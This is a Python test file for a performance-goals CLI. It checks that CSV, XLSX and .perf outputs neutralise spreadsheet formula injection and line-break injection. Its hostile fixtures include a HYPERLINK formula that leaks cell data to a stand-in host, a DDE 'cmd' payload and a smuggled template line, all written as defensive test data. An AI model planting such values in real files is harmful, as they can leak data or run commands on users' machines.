"""Names and texts from a ruleset never become live formulas or live .perf lines in output."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from perfgoals.actuals.reader import read_actuals
from perfgoals.language.parser import parse_file
from perfgoals.tables.cells import inert, inert_row, restored
from tests.cli_process import assert_clean, run_cli

HOSTILE_PROJECT = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
HOSTILE_INDICATOR = "@SUM(A1:A9)"
HOSTILE_GOAL = "+cmd|' /C calc'!A0"
_QUOTED_PROJECT = HOSTILE_PROJECT.replace('"', '\\"')
RULESET = f"""ruleset "注入" {{
  department "甲"
  year 2023
}}

project "{_QUOTED_PROJECT}" {{
  code "-1+2"
  goal "{HOSTILE_GOAL}"
  产出 {{
    数量 "{HOSTILE_INDICATOR}" "888 场"
    质量 "完成率" "≥90%"
    时效 "及时" "按时完成\\nproject \\"live\\" {{ }}"
  }}
}}
"""
TRIGGERS = ("=", "+", "-", "@")


def _ruleset(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.perf"
    path.write_text(RULESET, encoding="utf-8")
    parse_file(path)  # a valid ruleset
    return path


def _live_csv_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [
        c for c in cells if c.startswith(TRIGGERS) and not c.lstrip("+-").replace(".", "").isdigit()
    ]


def test_csv_outputs_hold_no_live_formula(tmp_path: Path) -> None:
    ruleset = _ruleset(tmp_path)
    template = run_cli(["template", ruleset, "--format", "csv"], cwd=tmp_path)
    assert_clean(template, codes=(0,))
    table = tmp_path / "table.csv"
    assert_clean(run_cli(["export-table", ruleset, "-o", table], cwd=tmp_path), codes=(0,))
    actuals = tmp_path / "actuals.csv"
    actuals.write_text(template.stdout, encoding="utf-8")
    scored = run_cli(["score", ruleset, actuals, "--format", "csv"], cwd=tmp_path)
    assert_clean(scored)
    for text in (template.stdout, table.read_text(encoding="utf-8"), scored.stdout):
        assert HOSTILE_PROJECT.split("(")[0] in text.replace("'", "")
        assert _live_csv_cells(text) == []


def test_progress_csv_outputs_hold_no_live_formula(tmp_path: Path) -> None:
    ruleset = _ruleset(tmp_path)
    progress = run_cli(
        ["template", ruleset, "--progress", "--month", "7", "--format", "csv"], cwd=tmp_path
    )
    assert_clean(progress, codes=(0,))
    filled = tmp_path / "progress.csv"
    filled.write_text(progress.stdout, encoding="utf-8")
    monitored = run_cli(["monitor", ruleset, filled, "--format", "csv"], cwd=tmp_path)
    assert_clean(monitored)
    for text in (progress.stdout, monitored.stdout):
        assert HOSTILE_PROJECT.split("(")[0] in text.replace("'", "")
        assert _live_csv_cells(text) == []


def test_the_template_csv_reads_back_with_the_names_as_written(tmp_path: Path) -> None:
    ruleset = _ruleset(tmp_path)
    template = run_cli(["template", ruleset, "--format", "csv", "-o", tmp_path / "t.csv"])
    assert_clean(template, codes=(0,))
    assessment = read_actuals(tmp_path / "t.csv")
    assert [p.project for p in assessment.projects] == [HOSTILE_PROJECT]


def test_xlsx_outputs_hold_text_not_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    ruleset = _ruleset(tmp_path)
    outputs = [tmp_path / "template.xlsx", tmp_path / "table.xlsx"]
    assert_clean(run_cli(["template", ruleset, "-o", outputs[0]], cwd=tmp_path), codes=(0,))
    assert_clean(run_cli(["export-table", ruleset, "-o", outputs[1]], cwd=tmp_path), codes=(0,))
    for path in outputs:
        workbook = load_workbook(path)  # formulas are kept as formulas when not data_only
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert HOSTILE_PROJECT in [c.value for c in cells]


def test_a_line_break_in_a_target_writes_no_live_line_in_a_perf_template(tmp_path: Path) -> None:
    ruleset = _ruleset(tmp_path)
    template = run_cli(["template", ruleset, "--format", "perf"], cwd=tmp_path)
    assert_clean(template, codes=(0,))
    live = [line for line in template.stdout.splitlines() if "live" in line]
    assert live and all(line.lstrip().startswith("#") for line in live)
    progress = run_cli(
        ["template", ruleset, "--progress", "--month", "7", "--format", "perf"], cwd=tmp_path
    )
    assert_clean(progress, codes=(0,))
    live = [line for line in progress.stdout.splitlines() if "live" in line]
    assert live and all(line.lstrip().startswith("#") for line in live)


def test_inert_and_restored_are_inverse_and_leave_numbers_alone() -> None:
    for text in ["=1+1", "+x", "-y", "@z", "\t=1", "-5", "+3%", "-1,000.5", "名称", "'=a", ""]:
        assert restored(inert(text)) == text
    assert inert("-5") == "-5"
    assert inert("=1+1") == "'=1+1"


_CELL = st.one_of(
    st.none(),
    st.integers(),
    st.text(alphabet="'=+-@\t\r\n0123456789.,%名a "),
    st.text(),
)


@given(st.lists(_CELL, max_size=6))
def test_a_row_is_marked_as_each_of_its_cells_alone(cells: list[object]) -> None:
    # inert_row settles most cells by their first character; it must agree with inert.
    assert inert_row(cells) == [inert("" if c is None else str(c)) for c in cells]
